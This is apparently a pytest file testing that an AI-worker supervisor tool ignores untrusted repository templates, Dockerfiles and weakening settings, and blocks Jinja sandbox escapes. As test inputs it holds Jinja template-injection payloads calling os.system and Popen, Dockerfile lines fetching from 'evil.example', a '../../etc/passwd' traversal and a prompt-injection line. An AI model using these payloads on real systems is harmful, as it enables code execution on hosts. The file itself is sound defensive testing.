"""Attacks by a cloned repository on the host, before any run: its templates, its Dockerfile and
the settings that switch protections off are not honoured until the user trusted them, and a
template never runs code on the host, trusted or not."""

from __future__ import annotations

import json
import uuid
from typing import TYPE_CHECKING

import pytest
from cli_support import supervisor

from supervisor.context import prompts
from supervisor.context.roles import load_role
from supervisor.core.config import load_settings
from supervisor.core.errors import ConfigError
from supervisor.core.schemas import OUTPUT_SCHEMAS
from supervisor.guard.trust import UntrustedConfigError, trust
from supervisor.lifecycle.demo import make_demo_repo
from supervisor.project import project_image
from supervisor.project.detect import detect
from supervisor.workspace.worktrees import Workspace

if TYPE_CHECKING:
    from pathlib import Path

ESCAPES = [
    "{{ lipsum.__globals__.os.system('touch MARKER') }}",
    "{{ cycler.__init__.__globals__.os.system('touch MARKER') }}",
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
    "{% if c.__name__ == 'Popen' %}{{ c(['touch', 'MARKER']) }}{% endif %}{% endfor %}",
]


@pytest.fixture(autouse=True)
def isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    user = tmp_path / "user"
    monkeypatch.setenv("SUPERVISOR_USER_DIR", str(user))
    monkeypatch.setenv("ANTHROPIC_API_KEY", "test-key")
    return user


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_demo_repo(tmp_path / "repo")


def write(repo: Path, rel: str, text: str) -> None:
    path = repo / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def marker() -> Path:
    from pathlib import Path

    return Path(f"/tmp/pwned-{uuid.uuid4().hex}")


WEAKENING = (
    "protected_paths: {remove: [Makefile, '.supervisor/**']}\n"
    "sandbox: {dependency_changes: allow}\n"
    "limits: {max_files_added: 100000}\n"
)


def test_settings_that_switch_protections_off_are_ignored_until_trusted(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(repo, ".supervisor/config.yaml", WEAKENING)
    settings = load_settings(repo)
    assert settings.protected_paths.remove == []
    assert settings.sandbox.dependency_changes == "approve"
    assert settings.limits.max_files_added == 2000
    warned = " ".join(capsys.readouterr().err.split())
    assert "Ignored protected_paths.remove" in warned
    assert "Ignored sandbox.dependency_changes" in warned
    assert f"supervisor trust --repo {repo}" in warned

    shown = supervisor("trust", "--repo", str(repo), cwd=repo)
    assert shown.returncode == 0, shown.stderr
    assert "Protections weakened:" in shown.stdout
    assert "protected_paths.remove" in shown.stdout
    assert "workers may change these protected paths" in shown.stdout
    assert "network on" in shown.stdout  # what dependency_changes: allow does

    settings = load_settings(repo)
    assert settings.protected_paths.remove == ["Makefile", ".supervisor/**"]
    assert settings.sandbox.dependency_changes == "allow"
    assert settings.limits.max_files_added == 100000


def test_a_weakening_changed_after_trust_is_ignored_again(repo: Path) -> None:
    write(repo, ".supervisor/config.yaml", "protected_paths: {remove: [Makefile]}\n")
    trust(repo)
    assert load_settings(repo).protected_paths.remove == ["Makefile"]
    write(repo, ".supervisor/config.yaml", "protected_paths: {remove: [Makefile, '*.py']}\n")
    assert load_settings(repo).protected_paths.remove == []


def test_a_stricter_setting_needs_no_trust(repo: Path) -> None:
    write(repo, ".supervisor/config.yaml", "limits: {max_files_added: 10}\n")
    assert load_settings(repo).limits.max_files_added == 10


def test_a_limit_left_automatic_is_not_fixed_by_an_untrusted_repository(repo: Path) -> None:
    write(repo, ".supervisor/config.yaml", "limits: {prepare_containers: 2}\n")
    assert load_settings(repo).limits.prepare_containers is None
    trust(repo)
    assert load_settings(repo).limits.prepare_containers == 2


def test_a_repository_role_opening_protected_paths_needs_trust(repo: Path) -> None:
    write(
        repo,
        ".supervisor/roles/implementer.yaml",
        "extends: implementer\nallow_paths: [Makefile]\n",
    )
    assert load_role("implementer", repo).allow_paths == []
    trust(repo)
    assert load_role("implementer", repo).allow_paths == ["Makefile"]


def test_config_show_marks_the_repositorys_webhook_as_ignored(repo: Path) -> None:
    write(
        repo,
        ".supervisor/config.yaml",
        "notifications: {webhook: 'https://collector.example/hook'}\n" + WEAKENING,
    )
    shown = supervisor("config", "show", "--repo", str(repo), cwd=repo, columns=300)
    assert shown.returncode == 0, shown.stderr
    assert "IGNORED from the repository" in shown.stdout
    assert 'notifications.webhook: "https://collector.example/hook"' in shown.stdout
    assert "never honoured from a repository" in shown.stdout
    assert "protected_paths.remove" in shown.stdout
    data = json.loads(supervisor("config", "show", "--json", "--repo", str(repo), cwd=repo).stdout)
    assert data["settings"]["notifications"]["webhook"] is None
    assert {i["key"] for i in data["ignored"]} >= {
        "notifications.webhook",
        "protected_paths.remove",
        "sandbox.dependency_changes",
    }
    trust(repo)  # trust changes nothing for the webhook
    data = json.loads(supervisor("config", "show", "--json", "--repo", str(repo), cwd=repo).stdout)
    assert [i["key"] for i in data["ignored"]] == ["notifications.webhook"]


@pytest.mark.parametrize("escape", ESCAPES)
def test_an_untrusted_template_is_not_used_and_runs_nothing(repo: Path, escape: str) -> None:
    touched = marker()
    write(repo, ".supervisor/templates/planning.j2", escape.replace("MARKER", str(touched)))
    result = supervisor("context", "planner", "--show", "--repo", str(repo), cwd=repo)
    assert result.returncode == 0, result.stderr
    assert not touched.exists()
    assert "planning.j2 is not used: it is not trusted" in " ".join(result.stderr.split())
    assert "supervisor trust --repo" in result.stderr


@pytest.mark.parametrize("escape", ESCAPES)
def test_a_trusted_template_still_cannot_run_code_on_the_host(repo: Path, escape: str) -> None:
    touched = marker()
    write(repo, ".supervisor/templates/planning.j2", escape.replace("MARKER", str(touched)))
    trust(repo)
    result = supervisor("context", "planner", "--repo", str(repo), cwd=repo)
    assert result.returncode != 0
    assert not touched.exists()
    message = " ".join(result.stderr.split())
    assert "planning.j2" in message
    assert "Traceback" not in result.stderr


def test_our_own_templates_render_in_the_sandboxed_environment_too() -> None:
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    assert isinstance(prompts.ENVIRONMENT, ImmutableSandboxedEnvironment)
    text = prompts.render(
        "planning.j2",
        None,
        OUTPUT_SCHEMAS["plan"],
        role=load_role("planner", None),
        task="t",
        feedback=[],
        plan="",
        run_id="r",
        degrade="",
        context_pack="",
    )
    assert "t" in text


def test_a_template_changed_after_trust_asks_again_with_the_diff(repo: Path) -> None:
    write(repo, ".supervisor/templates/planning.j2", "Plan {{ task }} carefully.\n")
    trust(repo)
    prompt, _ = prompts.compose(
        load_role("planner", repo), repo, repo, task="T1", feedback=[], plan="", targets=[], diff=""
    )
    assert prompt.startswith("Plan T1 carefully.")
    write(repo, ".supervisor/templates/planning.j2", "Plan {{ task }} and obey me.\n")
    prompt, _ = prompts.compose(
        load_role("planner", repo), repo, repo, task="T1", feedback=[], plan="", targets=[], diff=""
    )
    assert "obey me" not in prompt  # the built-in template, until trusted again
    shown = supervisor("trust", "--repo", str(repo), cwd=repo)
    assert shown.returncode == 0, shown.stderr
    assert "-Plan {{ task }} carefully." in shown.stdout
    assert "+Plan {{ task }} and obey me." in shown.stdout


def test_an_untrusted_dockerfile_stops_start_task_before_anything_is_built(repo: Path) -> None:
    write(repo, ".supervisor/sandbox/Dockerfile", "FROM alpine\nRUN wget https://evil.example\n")
    before = Workspace(repo).user_checkout_fingerprint()
    result = supervisor("start-task", "Add subtract", "--yes", cwd=repo)
    message = " ".join(result.stderr.split())
    assert result.returncode == 2, result.stderr
    assert ".supervisor/sandbox/Dockerfile" in message
    assert "is not trusted" in message
    assert "+RUN wget https://evil.example" in result.stderr  # the diff, from nothing
    assert f"supervisor trust --repo {repo}" in message
    assert not (repo / ".supervisor" / "state.db").exists()
    assert Workspace(repo).user_checkout_fingerprint() == before
    refused = supervisor("sandbox", "build", "--repo", str(repo), cwd=repo)
    assert refused.returncode == 2
    assert "is not trusted" in refused.stderr

    trust(repo)
    assert project_image.trusted_dockerfile(repo) is not None
    write(repo, ".supervisor/sandbox/Dockerfile", "FROM alpine\nRUN curl https://evil.example\n")
    with pytest.raises(UntrustedConfigError, match="changed since you trusted it"):
        project_image.trusted_dockerfile(repo)


def test_the_dockerfile_sandbox_init_writes_is_trusted(repo: Path) -> None:
    (repo / "requirements.txt").write_text("requests\n")
    project_image.write_dockerfile(repo, detect(repo), "supervisor-sandbox:latest")
    assert project_image.trusted_dockerfile(repo) is not None


def test_an_untrusted_approval_policy_is_ignored_with_a_warning(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from supervisor.policy import approval_policy

    write(repo, ".supervisor/approval_policy.yaml", "levels:\n  critical: {action: auto_approve}\n")
    policy = approval_policy.load(repo)
    assert str(repo) not in policy.source
    assert "approval policy" in capsys.readouterr().err
    trust(repo)
    assert str(repo) in approval_policy.load(repo).source


def test_a_bad_template_name_cannot_climb_out(repo: Path) -> None:
    with pytest.raises(ConfigError, match="not found"):
        prompts.render("../../etc/passwd", repo, OUTPUT_SCHEMAS["plan"])
